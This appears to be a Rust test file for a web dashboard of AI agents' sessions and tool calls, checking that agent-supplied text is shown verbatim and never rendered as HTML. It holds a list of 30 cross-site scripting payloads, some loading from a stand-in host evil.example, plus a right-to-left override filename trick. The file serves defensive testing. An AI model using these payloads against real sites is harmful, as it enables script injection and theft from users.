//! Whatever an agent says is text.

use crate::rig::Board;
use serde_json::json;

/// Each would set `window.pwned`, load something or change the page, if it were taken as markup.
const CORPUS: [&str; 30] = [
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=//evil.example/x.png>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1>",
    "<embed src=//evil.example/x>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<form action=//evil.example><input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
    "\"><script>window.pwned=1</script>",
    "' onmouseover='window.pwned=1' x='",
    "\" autofocus onfocus=window.pwned=1 x=\"",
    "</title><script>window.pwned=1</script>",
    "</time></li></ol><script>window.pwned=1</script>",
    "-->]]><script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} javascript:window.pwned=1",
];

/// What an agent's text would have to become to do harm.
const FOREIGN: &str = "
    const tags = 'script,img,svg,iframe,object,embed,style,link,meta,base,form,input,video,source,math,template';
    const found = [...document.body.querySelectorAll(tags)].map((e) => e.outerHTML);
    for (const e of document.body.querySelectorAll('*')) for (const a of e.attributes) {
      if (a.name.startsWith('on') || a.name === 'style' || a.name === 'autofocus') found.push(e.outerHTML);
      if (a.name === 'href' && !a.value.startsWith('/') && a.value !== '#main') found.push(e.outerHTML);
    }
    if (window.pwned) found.push('a script has run');
    return found";

#[test]
fn no_text_of_an_agent_becomes_markup() {
    let Some(board) = Board::start() else { return };
    for (n, text) in CORPUS.iter().enumerate() {
        let agent = format!("x{n}");
        let about = json!({"name": text, "role": text, "labels": {(*text): text}, "tmux": text,
            "cwd": format!("/tmp/{text}")});
        board.describe("PUT", &agent, &about);
        // Half of them as the agent's own words, half as what a prompt shows.
        let input = json!({"command": text, "description": text, "file_path": text});
        let call = json!({"tool_name": text, "tool_use_id": "t", "tool_input": input, "cwd": text,
            "session_id": format!("s{n}"), "model": text});
        board.hook(&agent, "SessionStart", call.clone());
        board.hook(&agent, "PreToolUse", call.clone());
        if n % 2 == 0 {
            board.hook(&agent, "PermissionRequest", call);
        } else {
            board.report(&agent, json!({"turn": "failed", "detail": text}));
        }
    }
    let rows = format!("document.querySelectorAll('.row').length === {}", CORPUS.len());
    board.browser.until("all rows", &rows);
    assert_eq!(board.browser.js(FOREIGN), json!([]));
    let text = board.browser.text("return document.body.textContent");
    for payload in CORPUS {
        assert!(text.contains(payload), "{payload} is shown as it is");
    }
    // The same as a whole page, and as each agent's own.
    board.open("/");
    board.live();
    assert_eq!(board.browser.js(FOREIGN), json!([]));
    for (n, payload) in CORPUS.iter().enumerate() {
        board.open(&format!("/agents/x{n}"));
        board.live();
        assert_eq!(board.browser.js(FOREIGN), json!([]), "{payload}");
        let text = board.browser.text("return document.body.textContent");
        assert!(text.contains(payload), "{payload} is shown as it is");
    }
    board.is_clean();
}

#[test]
fn no_text_of_an_agent_hides_or_reorders_what_is_read() {
    let Some(board) = Board::start() else { return };
    // A path is kept as it is; other texts lose such characters when they come in.
    board.describe("PUT", "api", &json!({"cwd": "/home/ada/\u{202e}gpj.exe"}));
    board.browser.until("the row", "document.getElementById('a-api')");
    let row = board.browser.text("return document.getElementById('a-api').textContent");
    assert!(row.contains("⟨U+202E⟩gpj.exe"), "{row}");
    board.open("/agents/api");
    board.live();
    let html = board.browser.text("return document.documentElement.outerHTML");
    assert!(html.contains("⟨U+202E⟩gpj.exe") && !html.contains('\u{202e}'));
    board.is_clean();
}
